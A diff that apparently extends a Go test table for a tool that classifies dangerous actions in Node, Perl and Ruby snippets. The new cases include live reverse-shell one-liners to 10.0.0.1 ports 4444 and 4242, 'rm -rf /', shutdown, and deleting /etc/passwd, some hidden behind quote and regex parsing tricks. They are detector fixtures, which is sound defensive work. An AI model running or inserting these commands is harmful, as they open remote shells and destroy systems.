@@ -289,6 +289,12 @@ return /a/;})();`, []string{"sh: /bin/sh", "connect 10.0.0.1:4242", "download 10
 	{"node", `const https = require('https'); https.get('https://registry.npmjs.org/x')`, []string{"connect https://registry.npmjs.org/x"}},
 	{"node", `eval(Buffer.from(s, 'base64').toString())`, []string{"unknown"}},
 	{"node", `process.kill(1, 'SIGKILL')`, []string{"signal KILL 1"}},
+	{"node", `require('child_process').exec('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')`, []string{"sh: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}},
+	{"node", `import { execSync } from "node:child_process"; execSync("shutdown -h now")`, []string{"sh: shutdown -h now"}},
+	{"node", `const r = /a"b/; require("fs").writeFileSync("/etc/x", "y")`, []string{"write /etc/x"}},
+	{"node", `/"/; require("child_process").exec("rm -rf /"); //"`, []string{"sh: rm -rf /"}},
+	{"node", `let a = b / c; let d = e / f; require("child_process").exec("id")`, []string{"sh: id"}},
+	{"node", `const s = "unterminated; require("child_process").exec(x)`, []string{"unknown"}},
 	{"node", `console.log(1 + 2)`, nil},
 	{"node", `const x = "rm -rf /"; console.log(x)`, nil},
 
@@ -312,6 +318,10 @@ return /a/;})();`, []string{"sh: /bin/sh", "connect 10.0.0.1:4242", "download 10
 		[]string{"connect 10.0.0.1:1234", "sh: /bin/sh -i", "download 10.0.0.1:1234 | sh", "send output -> 10.0.0.1:1234"}},
 	{"perl", `use IO::Socket;$c=IO::Socket::INET->new(PeerAddr=>"10.0.0.2:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`,
 		[]string{"connect 10.0.0.2:4444", "unknown", "download 10.0.0.2:4444 | sh", "send output -> 10.0.0.2:4444"}},
+	{"perl", `$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`,
+		[]string{"connect 10.0.0.1:4242", "unknown", "download 10.0.0.1:4242 | sh", "send output -> 10.0.0.1:4242"}},
+	{"perl", `$x =~ s/"//g; system("id");`, []string{"sh: id"}},
+	{"perl", `my @a = split /'/, $l; unlink "/etc/passwd";`, []string{"delete /etc/passwd"}},
 	{"perl", `eval $code;`, []string{"unknown"}},
 	{"perl", `print "hello\n";`, nil},
 
@@ -333,6 +343,9 @@ return /a/;})();`, []string{"sh: /bin/sh", "connect 10.0.0.1:4242", "download 10
 		[]string{"connect 10.0.0.1:4444", "unknown", "download 10.0.0.1:4444 | sh", "send output -> 10.0.0.1:4444"}},
 	{"ruby", `c=TCPSocket.new("10.0.0.3","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end`,
 		[]string{"connect 10.0.0.3:4444", "unknown", "download 10.0.0.3:4444 | sh", "send output -> 10.0.0.3:4444"}},
+	{"ruby", `exit if fork;c=TCPSocket.new("10.0.0.1","4242");loop{c.gets.chomp!;(exit! if $_=="exit");($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts "failed: #{$_}"}`,
+		[]string{"connect 10.0.0.1:4242", "unknown", "download 10.0.0.1:4242 | sh", "send output -> 10.0.0.1:4242"}},
+	{"ruby", `x = l.gsub(/"/, ""); system("id")`, []string{"sh: id"}},
 	{"ruby", `eval(gets)`, []string{"unknown"}},
 	{"ruby", `puts [1, 2].sum`, nil},
 
